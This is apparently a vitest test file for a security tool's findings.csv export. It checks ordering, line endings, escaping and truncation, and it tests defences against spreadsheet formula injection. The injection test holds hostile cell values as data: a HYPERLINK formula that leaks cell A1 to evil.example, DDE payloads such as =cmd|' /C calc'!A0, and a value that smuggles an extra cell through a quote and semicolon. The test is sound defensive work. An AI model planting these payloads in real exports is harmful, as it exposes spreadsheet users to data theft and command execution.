import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import type { Finding } from "../src/model/sighting.js";
import { findingsCsv as csvPieces } from "../src/report/findings-csv.js";
import { worstFirst } from "../src/report/summary.js";
import { makeFinding, sampleReport } from "./report-sample.js";

const rowsOf = (csv: string): Record<string, string>[] => parse(csv, { columns: true });

function finding(cell: string): Finding {
  const made = makeFinding(
    {
      verdict: "callout",
      name: cell,
      asset: cell,
      labels: [cell],
      count: 1,
      reasons: [cell],
      lines: [[cell, 7, cell]],
    },
    0,
  );
  return { ...made, first_seen: cell };
}

const findingsCsv = (findings: Parameters<typeof csvPieces>[0]): string => [...csvPieces(findings)].join("");

describe("findings.csv", () => {
  it("has a header and every finding, in their order, with CRLF and as many cells in each row", () => {
    const findings = worstFirst(sampleReport().findings);
    const csv = findingsCsv(findings);
    const rows = rowsOf(csv);
    expect(rows.map((row) => row["finding"])).toEqual(findings.map(({ id }) => id));
    expect(csv.split("\r\n")).toHaveLength(findings.length + 2);
    expect(csv.replaceAll("\r\n", "")).not.toMatch(/[\r\n]/);
    expect(rows[0]).toMatchObject({
      verdict: "callout",
      level: "critical",
      indicator: findings[0]!.indicator.name,
      asset: findings[0]!.asset,
    });
    const many = Array.from({ length: 2500 }, () => findings[0]!);
    expect(rowsOf(findingsCsv(many))).toHaveLength(2500);
    expect(findingsCsv([]).split("\r\n")).toEqual([expect.stringMatching(/^finding,verdict,level,/), ""]);
  });

  it("takes the line of the finding's own verdict for its evidence", () => {
    const made = finding("x");
    const [first] = made.evidence;
    const evidence = [
      { ...first!, verdict: "callout-attempt" as const, line: 1 },
      { ...first!, line: 2 },
    ];
    expect(rowsOf(findingsCsv([{ ...made, evidence }]))[0]!["evidence_line"]).toBe("2");
    expect(rowsOf(findingsCsv([{ ...made, evidence: [] }]))[0]!["evidence_line"]).toBe("");
  });

  it.each([
    "=1+1",
    "+1",
    "-1",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "\u00a0=1",
    '"=1',
    "\ufeff=1",
    "\u200b=1",
    "＝1",
    "＠x",
    `=HYPERLINK("https://evil.example/?"&A1,"x")`,
    `=cmd|' /C calc'!A0`,
    `x";=cmd|' /C calc'!A0;"`,
    `x; ""=1`,
    "x;-1",
    "x\t=1",
  ])("lets no cell begin a formula, whether cells end at commas, semicolons or tabs: %j", (evil) => {
    const csv = findingsCsv([finding(evil)]);
    const cells = (parse(csv) as string[][]).flat();
    // A spreadsheet that splits elsewhere sees no quotes where ours stand: the worst that it may do.
    for (const cell of [...cells, ...csv.split(/[;\t\r\n]/)])
      expect(cell).not.toMatch(/^["\s\ufeff]*[=+\-@＝＋－＠\t\r]/);
    const row = rowsOf(csv)[0]!;
    for (const name of ["indicator", "asset", "labels", "reasons", "evidence_path", "evidence_text"])
      expect(row[name]!.replaceAll("'", "")).toContain(evil.includes("=cmd") ? "=cmd" : evil.slice(-1));
  });

  it("shows what is not seen, keeps quotes and commas, and cuts what no cell holds, saying so", () => {
    const evil = `a,"b"\r\nc\u001b[31m\u202e\u0000\u2028d`;
    const row = rowsOf(findingsCsv([finding(evil)]))[0]!;
    expect(row["evidence_text"]).toBe(`a,"b"\\u{d}\\u{a}c\\u{1b}[31m\\u{202e}\\u{0}\\u{2028}d`);
    const long = rowsOf(findingsCsv([finding("y".repeat(100_000))]))[0]!["evidence_text"]!;
    expect(long).toMatch(/^y{4098} … 95902 more characters$/);
  });
});
